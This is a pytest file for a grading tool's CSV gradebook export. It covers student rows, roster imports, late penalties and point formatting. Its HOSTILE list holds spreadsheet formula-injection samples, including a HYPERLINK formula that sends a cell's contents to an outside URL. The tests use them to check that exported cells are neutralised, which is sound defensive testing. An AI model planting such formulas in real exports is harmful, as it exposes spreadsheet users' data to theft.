"""The plain table: a row per student with all that made the grade; and nothing in it is harmful or lost."""

import csv
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grader.instructor.class_runs.submissions import Student
from grader.instructor.csv_tables import TableError, read_table
from grader.instructor.gradebooks import plain
from grader.instructor.gradebooks.gradebook import Grade, kept_cell
from grader.report.text import safe_cell, two_decimals
from tests.made_up_run import DUE, class_run, export, handed, ten_percent, written
from tests.test_cells import FORMULAS
from tests.wording import numbers

HOSTILE = ['=HYPERLINK("http://example.org?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "a\nb,c;d", 'quo"ted', "数, σ²"]


def rows_of(path: Path) -> list[dict[str, str]]:
    """Read a CSV file as any program does, quotes and new lines in cells included."""
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream, strict=True))


def made(run: Path, *options: str | Path) -> dict[str, dict[str, str]]:
    """Export a class run as a plain table, and return its rows by student."""
    assert export(run, "--format=csv", *options) in (0, 1)
    return {row["student"]: row for row in rows_of(run / "gradebook-csv.csv")}


# ## What is written
def test_a_row_says_all_that_made_a_grade(tmp_path: Path) -> None:
    jane = Student("s1", "Jane Doe", "jane@example.edu")
    run = class_run(tmp_path, handed(jane, {"kl": "wrong"}, row="a", submitted=DUE + timedelta(hours=30)))
    (row,) = made(run, "--offering", ten_percent(tmp_path)).values()
    feedback = row.pop("feedback")
    assert row == {
        "student": "s1",
        "name": "Jane Doe",
        "email": "jane@example.edu",
        "submission": "a",
        "points": "11.20",
        "max_points": "22.00",
        "status": "graded",
        "earned": "14.00",
        "days_late": "2",
        "late_percent": "20",
        "by_hand": "0.00",
        "submitted": "2026-12-03T04:59:00+00:00",
        "due": "2026-12-01T22:59:00+00:00",
        "attempt": "1 of 1",
    }
    times = ["2026-12-03", "04:59", "2026-12-01", "22:59"]
    assert numbers(feedback) == ["11.20", "22.00", "2", *times, "14.00", "20", "11.20", "2.00", "10.00"]
    assert feedback.count("UTC") == 2 and "kl: 2.00" in feedback


def test_without_a_roster_all_students_of_the_run_are_written(tmp_path: Path) -> None:
    run = class_run(
        tmp_path,
        handed("b"),
        handed((Student("c"), Student("d")), {"mode": "wrong"}, row="c_d"),
        handed("e", problem="no UTF-8 text (byte 6)"),
        handed("f", status="the judge died (tried twice)"),
    )
    found = made(run)
    assert {name: (row["points"], row["status"]) for name, row in found.items()} == {
        "b": ("22.00", "graded"),
        "c": ("20.40", "graded"),
        "d": ("20.40", "graded"),
        "e": ("0.00", "no UTF-8 text (byte 6)"),
        "f": ("", "the judge died (tried twice)"),
    }
    assert found["d"]["submission"] == "c_d", "a group has one submission, and each member its grade"


def test_with_a_roster_its_students_are_written_in_its_order(tmp_path: Path) -> None:
    roster = written(tmp_path / "roster.csv", "name,id,email\nZoë,z,\nJane,j,jane@example.edu\nAnn,a,\n")
    run = class_run(tmp_path, handed("a"), handed("x"), handed(Student("7", email="JANE@example.edu"), row="j7"))
    found = made(run, "--roster", roster)
    assert [(row["student"], row["name"], row["points"], row["status"]) for row in found.values()] == [
        ("z", "Zoë", "", "no submission"),
        ("j", "Jane", "22.00", "graded"),
        ("a", "Ann", "22.00", "graded"),
    ]
    assert made(run, "--roster", roster, "--missing=zero")["z"]["points"] == "0.00"


def test_exports_of_canvas_and_moodle_are_rosters_too(tmp_path: Path) -> None:
    run = class_run(tmp_path, handed("jane@example.edu"))
    canvas = written(tmp_path / "c.csv", "Student,ID,SIS Login ID,Section,VAE (7)\nDoe,11,jane@example.edu,A,\n")
    assert made(run, "--roster", canvas)["11"]["points"] == "22.00"
    moodle = written(tmp_path / "m.csv", "First name,Last name,Email address\nJane,Doe,jane@example.edu\n")
    assert made(run, "--roster", moodle)["jane@example.edu"]["name"] == "Jane Doe"


def test_times_and_due_dates_of_the_roster_hold_before_all_else(tmp_path: Path) -> None:
    early, late = DUE - timedelta(hours=1), DUE + timedelta(hours=1)
    lines = [
        "id,submitted,due",
        f"a,{late.isoformat()},",
        f"b,,{late.isoformat()}",
        f"c,{early.isoformat()},{(early - timedelta(hours=1)).isoformat()}",
        "d,,",
    ]
    run = class_run(tmp_path, *(handed(name, submitted=late) for name in "bcd"), handed("a", submitted=early))
    roster = written(tmp_path / "roster.csv", "\n".join(lines))
    found = made(run, "--roster", roster, "--offering", ten_percent(tmp_path))
    assert {name: row["days_late"] for name, row in found.items()} == {"a": "1", "b": "0", "c": "1", "d": "1"}


def test_a_due_date_that_the_class_run_recorded_holds_without_a_roster(tmp_path: Path) -> None:
    later = DUE + timedelta(days=3)
    run = class_run(
        tmp_path,
        handed(Student("a", due=later), submitted=later),
        handed(Student("b"), submitted=later),
    )
    found = made(run, "--offering", ten_percent(tmp_path))
    assert {name: row["points"] for name, row in found.items()} == {"a": "22.00", "b": "15.40"}


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("id,name\n,Jane\n", "line 2: no id"),
        ("id\na\nb\nA\n", "line 4: id 'A' is also in line 2"),
        ("name\nJane\n", "line 1: no column identifies students"),
        ("id,submitted\na,2026-12-01\n", "line 2: submitted: '2026-12-01' has no time zone"),
        ("id,due\na,soon\n", "line 2: due: 'soon' is not a time"),
        ('id,name\na,"Jane\n', "line 2: not valid CSV: unexpected end of data"),
    ],
)
def test_a_bad_roster_is_refused_with_its_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, words: str
) -> None:
    run = class_run(tmp_path, handed("a"))
    assert export(run, "--format=csv", "--roster", written(tmp_path / "roster.csv", text)) == 2
    said = capsys.readouterr().err
    assert f"{tmp_path / 'roster.csv'}, {words}" in said and said.count("\n") == 1
    assert not (run / "gradebook-csv.csv").exists(), "nothing is written"


def test_another_column_may_hold_the_ids(tmp_path: Path) -> None:
    run = class_run(tmp_path, handed("a"))
    roster = written(tmp_path / "roster.csv", "Matrikel,id\na,1\n")
    assert made(run, "--roster", roster, "--id-column=matrikel")["a"]["points"] == "22.00"
    with pytest.raises(TableError, match="line 1: no column 'Nummer': the columns are Matrikel, id"):
        plain.people(read_table(roster), "Nummer")


# ## Points
@given(st.integers(-10_000, 1_000_000))
def test_points_have_two_decimals_and_no_rounding_is_left(hundredths: int) -> None:
    text = two_decimals(hundredths)
    assert round(float(text) * 100) == hundredths
    assert text.partition(".")[2].isdigit() and len(text.partition(".")[2]) == 2


# ## Hostile text
def test_hostile_names_stay_harmless_and_are_kept(tmp_path: Path) -> None:
    students = [Student(f"s{i}", name, f"{name}@x") for i, name in enumerate(HOSTILE)]
    run = class_run(tmp_path, *(handed(student) for student in students))
    for student, row in zip(students, made(run).values(), strict=True):
        assert row["name"] == safe_cell(student.name) and row["email"] == safe_cell(student.email)
        assert not row["name"].startswith(("=", "+", "-", "@"))
        assert row["points"] == "22.00"


def test_hostile_reasons_stay_harmless_and_are_kept(tmp_path: Path) -> None:
    run = class_run(tmp_path, *(handed(f"s{i}", problem=f"{text}") for i, text in enumerate(HOSTILE)))
    for text, row in zip(HOSTILE, made(run).values(), strict=True):
        assert row["points"] == "0.00"
        assert numbers(row["feedback"])[:2] == ["0.00", "22.00"]
        assert " ".join(text.split()) in " ".join(row["feedback"].split())
        assert not row["status"].startswith(("=", "+", "-", "@"))


TEXT = st.text(max_size=12) | st.sampled_from(FORMULAS)


@settings(deadline=None)
@given(st.lists(st.tuples(TEXT, TEXT, TEXT, TEXT), max_size=6))
def test_whatever_the_text_every_student_is_one_row(people: list[tuple[str, str, str, str]]) -> None:
    grade = Grade("row", "graded", 1, 100, 2, submitted=datetime(2026, 1, 1, tzinfo=UTC))
    lines = [plain.StudentLine(a, b, c, grade, d) for a, b, c, d in people]
    text = plain.text(lines, zero=False)
    header, *rows = csv.reader(text.splitlines(keepends=True), strict=True)
    assert len(rows) == len(people) and {len(row) for row in rows} <= {len(header)}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for row in rows for cell in row)


@pytest.mark.parametrize("cell", ["", "-", "7.25", "-3", "12,5", "0042", "Doe, Jane", "<p>a\nb</p>", "N/A", "σ"])
def test_cells_of_a_roster_go_back_as_they_were(cell: str) -> None:
    assert kept_cell(cell) == cell


@pytest.mark.parametrize("text", FORMULAS)
def test_but_a_formula_does_not(text: str) -> None:
    assert kept_cell(text) == safe_cell(text)
